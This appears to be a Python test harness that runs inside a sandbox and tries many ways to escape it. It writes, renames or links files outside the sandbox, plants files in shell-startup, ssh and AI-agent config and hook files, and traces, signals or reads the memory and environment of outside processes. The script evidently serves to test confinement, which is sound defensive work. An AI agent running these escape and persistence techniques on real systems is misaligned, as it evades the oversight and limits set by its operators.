"""Tries to get out of a wall: run behind one, in FOLDER, it tries to change OUT and HOME in every way it knows.

    python attack.py OUT HOME PID SOCKET    (PID is a process outside, SOCKET the path of a unix socket outside)

Each try has a victim of its own: `OUT/NAME`, a file with the text "kept". It got through if that is changed or gone, or
if `OUT/NAME.new` is there. Whoever runs this judges from outside; what it says itself counts for the rest alone.
Standard library alone.
"""

import ctypes
import mmap
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
TEXT = b"taken"
FILES: dict[str, Callable[[str], object]] = {}
SAID: dict[str, Callable[[], object]] = {}  # tries whose success only they can know

# Files that would run something, or widen what an agent may, the next time that it is started.
POWER = """
.bashrc .profile .bash_profile .zshrc .zshenv .inputrc .gitconfig .config/git/config .config/git/hooks/pre-commit
.ssh/config .ssh/authorized_keys .ssh/rc .npmrc .config/pip/pip.conf .pypirc .netrc .tmux.conf .vimrc
.config/nvim/init.lua .emacs .config/autostart/x.desktop .config/systemd/user/x.service .config/fish/config.fish
.local/bin/claude .local/bin/git .claude.json .claude/settings.json .claude/CLAUDE.md .claude/agents/x.md
.claude/commands/x.md .claude/skills/x/SKILL.md .claude/plugins/x.json .claude/shell-snapshots/x.sh .codex/config.toml
.codex/hooks.json .codex/rules/x.rules .codex/AGENTS.md .codex/skills/x/SKILL.md .gemini/settings.json
.gemini/trustedFolders.json .gemini/policies/x.toml .gemini/extensions/x/gemini-extension.json .gemini/GEMINI.md
.gemini/.env .qwen/settings.json .qwen/extensions/x.json .qwen/QWEN.md .qwen/.env .config/opencode/opencode.json
.config/opencode/plugin/x.js .local/share/opencode/auth.json .cache/opencode/bin/x .copilot/config.json
.copilot/mcp-config.json .copilot/hooks/x.json .cache/copilot/pkg/x.js .config/ostler/config.toml
.zprofile .bash_logout .xprofile .xsession .pam_environment .config/environment.d/x.conf .screenrc .curlrc .wgetrc
.gdbinit .lldbinit .condarc .cargo/config.toml .yarnrc.yml .bunfig.toml .mailcap .config/direnv/direnvrc
.config/mise/config.toml .local/share/applications/x.desktop .ipython/profile_default/startup/x.py
.jupyter/jupyter_server_config.py .local/lib/python3.11/site-packages/x.pth .config/uv/uv.toml .gradle/init.gradle
.m2/settings.xml
""".split()  # noqa: SIM905


def files(try_: Callable[[str], object]) -> Callable[[str], object]:
    FILES[try_.__name__] = try_
    return try_


def said(try_: Callable[[], object]) -> Callable[[], object]:
    SAID[try_.__name__] = try_
    return try_


def put(path: str, flags: int = os.O_WRONLY) -> None:
    fd = os.open(path, flags, 0o644)
    os.write(fd, TEXT)
    os.close(fd)


def call(number: int, *arguments: object) -> int:
    value: int = libc.syscall(number, *arguments)
    if value < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return value


def in_child(work: Callable[[], object]) -> None:
    """In a process of its own: what it does to itself must not reach the other tries."""
    pid = os.fork()
    if pid == 0:
        try:
            work()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


# -- plain ways


@files
def write(victim: str) -> None:
    put(victim)


@files
def write_and_truncate(victim: str) -> None:
    put(victim, os.O_WRONLY | os.O_TRUNC)


@files
def append(victim: str) -> None:
    put(victim, os.O_WRONLY | os.O_APPEND)


@files
def read_and_write(victim: str) -> None:
    put(victim, os.O_RDWR)


@files
def create(victim: str) -> None:
    put(f"{victim}.new", os.O_WRONLY | os.O_CREAT | os.O_EXCL)


@files
def truncate(victim: str) -> None:
    os.truncate(victim, 0)


@files
def truncate_on_open(victim: str) -> None:
    os.close(os.open(victim, os.O_RDONLY | os.O_TRUNC))


@files
def unlink(victim: str) -> None:
    os.unlink(victim)


@files
def rename_away(victim: str) -> None:
    os.rename(victim, "taken-file")


@files
def rename_over(victim: str) -> None:
    put("mine", os.O_WRONLY | os.O_CREAT)
    os.rename("mine", victim)


@files
def rename_beside(victim: str) -> None:
    os.rename(victim, f"{victim}.new")


@files
def exchange(victim: str) -> None:
    put("mine", os.O_WRONLY | os.O_CREAT)
    libc_call = libc.renameat2
    if libc_call(AT_FDCWD, b"mine", AT_FDCWD, victim.encode(), 2):
        raise OSError(ctypes.get_errno(), "renameat2")


@files
def make_folder(victim: str) -> None:
    os.mkdir(f"{victim}.new")


@files
def make_link(victim: str) -> None:
    os.symlink("/", f"{victim}.new")


@files
def make_hard_link(victim: str) -> None:
    put("mine", os.O_WRONLY | os.O_CREAT)
    os.link("mine", f"{victim}.new")


@files
def make_fifo(victim: str) -> None:
    os.mkfifo(f"{victim}.new")


@files
def make_socket(victim: str) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(f"{victim}.new")


@files
def make_unnamed(victim: str) -> None:
    fd = os.open(os.path.dirname(victim), os.O_TMPFILE | os.O_WRONLY, 0o600)
    os.link(f"/proc/self/fd/{fd}", f"{victim}.new", follow_symlinks=True)


# -- roundabout ways


@files
def through_dots(victim: str) -> None:
    put(os.path.relpath(victim))


@files
def through_a_link(victim: str) -> None:
    os.symlink(os.path.dirname(victim), "way-out")
    put(f"way-out/{os.path.basename(victim)}")


@files
def through_a_hard_link(victim: str) -> None:
    os.link(victim, "hard")
    put("hard")


@files
def through_own_root(victim: str) -> None:
    put(f"/proc/self/root{victim}")


@files
def through_own_folder(victim: str) -> None:
    put(f"/proc/self/cwd/{os.path.relpath(victim)}")


@files
def through_another_root(victim: str) -> None:
    put(f"/proc/{OTHER}/root{victim}")


@files
def through_another_folder(victim: str) -> None:
    put(f"/proc/{OTHER}/cwd/{os.path.basename(victim)}")


@files
def through_a_descriptor_of_it(victim: str) -> None:
    fd = os.open(victim, os.O_RDONLY)
    put(f"/proc/self/fd/{fd}", os.O_RDWR)


@files
def through_a_path_descriptor(victim: str) -> None:
    fd = os.open(os.path.dirname(victim), os.O_PATH | os.O_DIRECTORY)
    os.close(os.open(os.path.basename(victim), os.O_WRONLY | os.O_TRUNC, dir_fd=fd))


@files
def through_a_moved_folder(victim: str) -> None:
    os.mkdir("moving")
    fd = os.open("moving", os.O_RDONLY | os.O_DIRECTORY)
    os.rename("moving", f"{victim}.new")
    put(f"/proc/self/fd/{fd}/x", os.O_WRONLY | os.O_CREAT)


@files
def through_memory(victim: str) -> None:
    fd = os.open(victim, os.O_RDWR)
    with mmap.mmap(fd, 4) as mapped:
        mapped[:4] = b"take"


@files
def through_a_handle(victim: str) -> None:
    """As root a file can be opened by its handle, whatever its path is."""
    handle = (ctypes.c_uint32 * 34)(128, 0)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, victim.encode(), handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    at = os.open("/", os.O_RDONLY)
    fd = libc.open_by_handle_at(at, handle, os.O_WRONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    os.write(fd, TEXT)


@files
def with_copy_file_range(victim: str) -> None:
    put("mine", os.O_WRONLY | os.O_CREAT)
    os.copy_file_range(os.open("mine", os.O_RDONLY), os.open(victim, os.O_WRONLY), 5)


@files
def with_sendfile(victim: str) -> None:
    put("mine", os.O_WRONLY | os.O_CREAT)
    os.sendfile(os.open(victim, os.O_WRONLY), os.open("mine", os.O_RDONLY), 0, 5)


@files
def with_a_descriptor_of_another(victim: str) -> None:
    fd = os.pidfd_open(OTHER)
    taken = call(438, fd, 3, 0)  # pidfd_getfd: the other one has a descriptor 3 for the victims' folder
    os.close(os.open(os.path.basename(victim), os.O_WRONLY | os.O_TRUNC, dir_fd=taken))


# -- with the help of others


@files
def by_a_child(victim: str) -> None:
    subprocess.run(["/bin/sh", "-c", f"echo taken > {victim}"], check=True, stderr=subprocess.DEVNULL)


@files
def by_a_daemon(victim: str) -> None:
    in_child(lambda: (os.setsid(), in_child(lambda: put(victim))))


@files
def by_another_program(victim: str) -> None:
    subprocess.run(["cp", "/etc/hostname", victim], check=True, stderr=subprocess.DEVNULL)


@files
def by_git(victim: str) -> None:
    subprocess.run(["git", "init", "-q", f"{victim}.new"], check=True, capture_output=True)


@files
def by_another_user(victim: str) -> None:
    subprocess.run(["su", "root", "-c", f"echo taken > {victim}"], check=True, capture_output=True, timeout=10)


@files
def by_sudo(victim: str) -> None:
    subprocess.run(["sudo", "-n", "sh", "-c", f"echo taken > {victim}"], check=True, capture_output=True, timeout=10)


@files
def in_a_user_namespace(victim: str) -> None:
    line = f"mount --bind {os.path.dirname(victim)} . ; echo taken > {victim}"
    subprocess.run(["unshare", "-Urm", "sh", "-c", line], check=True, capture_output=True, timeout=10)


@files
def with_a_mount(victim: str) -> None:
    os.makedirs("mounted", exist_ok=True)
    if libc.mount(os.path.dirname(victim).encode(), b"mounted", None, 4096, None):
        raise OSError(ctypes.get_errno(), "mount")
    try:
        put(f"mounted/{os.path.basename(victim)}")
    finally:
        libc.umount2(b"mounted", 2)  # without a wall, and as root, it is a real one


@files
def in_a_new_root(victim: str) -> None:
    def work() -> None:
        os.chroot(os.path.dirname(victim))
        put(f"/{os.path.basename(victim)}")

    in_child(work)


@files
def with_bubblewrap(victim: str) -> None:
    argv = ["bwrap", "--bind", "/", "/", "--", "sh", "-c", f"echo taken > {victim}"]
    subprocess.run(argv, check=True, capture_output=True, timeout=10)


@files
def with_a_device(victim: str) -> None:
    """A device file of the memory in the folder would be a way to everything."""
    os.mknod("memory", 0o600 | 0o020000, os.makedev(1, 3))
    put(f"{victim}.new", os.O_WRONLY | os.O_CREAT)


@files
def by_threads_that_race(victim: str) -> None:
    """A link in the folder that is swapped while it is opened."""
    os.makedirs("race", exist_ok=True)
    put("race/x", os.O_WRONLY | os.O_CREAT)
    for _ in range(50):
        os.symlink(victim, "race/link")
        os.rename("race/link", "race/x")
        try:
            put("race/x")
        finally:
            os.unlink("race/x")
            put("race/x", os.O_WRONLY | os.O_CREAT)


@files
def with_vmsplice_of_a_pipe(victim: str) -> None:
    reading, writing = os.pipe()
    os.write(writing, TEXT)
    os.splice(reading, os.open(victim, os.O_WRONLY), 5)


@files
def with_fallocate(victim: str) -> None:
    os.posix_fallocate(os.open(victim, os.O_RDWR), 0, 4096)


@files
def with_a_new_session_of_bash(victim: str) -> None:
    line = f"exec 3>{victim}; echo taken >&3"
    subprocess.run(["setsid", "bash", "-c", line], check=True, capture_output=True, timeout=10)


@files
def with_tar(victim: str) -> None:
    put(os.path.basename(victim), os.O_WRONLY | os.O_CREAT)
    subprocess.run(["tar", "-cf", "x.tar", os.path.basename(victim)], check=True, capture_output=True)
    subprocess.run(["tar", "-xf", "x.tar", "-C", os.path.dirname(victim)], check=True, capture_output=True)


# -- what only the one who tries can tell


@said
def asks_tmux() -> None:
    subprocess.run(["tmux", "-S", SOCKET, "ls"], check=True, capture_output=True, timeout=10)


@said
def binds_an_abstract_socket() -> None:
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind("\0" + SOCKET + "-other")


@said
def sends_a_datagram() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sending:
        sending.sendto(b"x", SOCKET)


@said
def makes_an_io_uring() -> None:
    os.close(call(425, 4, ctypes.create_string_buffer(120)))


@said
def writes_the_memory_of_another() -> None:
    with open(f"/proc/{OTHER}/mem", "r+b", buffering=0) as file:
        file.seek(0)


@said
def takes_a_descriptor_of_another() -> None:
    os.close(call(438, os.pidfd_open(OTHER), 0, 0))


@said
def signals_another_by_its_descriptor() -> None:
    signal.pidfd_send_signal(os.pidfd_open(OTHER), 0)


@said
def gets_rid_of_its_wall() -> None:
    """With new privileges it could: a program that is another user's."""
    with open("/proc/self/status") as file:
        assert "NoNewPrivs:\t0" in file.read()


@said
def maps_another_user() -> None:
    in_child(lambda: call(272, 0x10000000))  # unshare(CLONE_NEWUSER) is allowed; to become somebody in it is not
    subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True, timeout=10)


@said
def connects_to_a_socket() -> None:
    with socket.socket(socket.AF_UNIX) as connecting:
        connecting.connect(SOCKET)


@said
def connects_to_an_abstract_socket() -> None:
    with socket.socket(socket.AF_UNIX) as connecting:
        connecting.connect("\0" + SOCKET)


@said
def signals_another() -> None:
    os.kill(OTHER, 0)


@said
def reads_the_memory_of_another() -> None:
    with open(f"/proc/{OTHER}/mem", "rb") as file:
        file.seek(0)


@said
def reads_the_environment_of_another() -> None:
    with open(f"/proc/{OTHER}/environ", "rb") as file:
        assert file.read()


@said
def traces_another() -> None:
    if libc.ptrace(16, OTHER, None, None):  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(OTHER, 0x40000000)
    libc.ptrace(17, OTHER, None, None)


@said
def stops_another() -> None:
    os.kill(OTHER, signal.SIGCONT)


def main() -> None:
    """Tries all of it, and tells how many tries that were: in a line that survives whatever quotes it."""
    for name, try_ in FILES.items():
        attempt(lambda try_=try_, name=name: try_(os.path.join(OUT, name)))  # type: ignore[misc]
    planted = [path for path in POWER if attempt(lambda path=path: plant(path))]  # type: ignore[misc]
    through = [name for name, try_ in SAID.items() if attempt(try_)]
    tried = len(FILES) + len(POWER) + len(SAID)
    print(f"tried={tried} planted={len(planted)} through={','.join(through)};", flush=True)


def plant(path: str) -> None:
    whole = os.path.join(HOME, path)
    os.makedirs(os.path.dirname(whole), exist_ok=True)
    put(whole, os.O_WRONLY | os.O_CREAT)


def attempt(try_: Callable[[], object]) -> bool:
    try:
        try_()
    except (OSError, AttributeError, subprocess.SubprocessError, ValueError, AssertionError):
        return False
    return True


if __name__ == "__main__":
    OUT, HOME, OTHER, SOCKET = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    main()
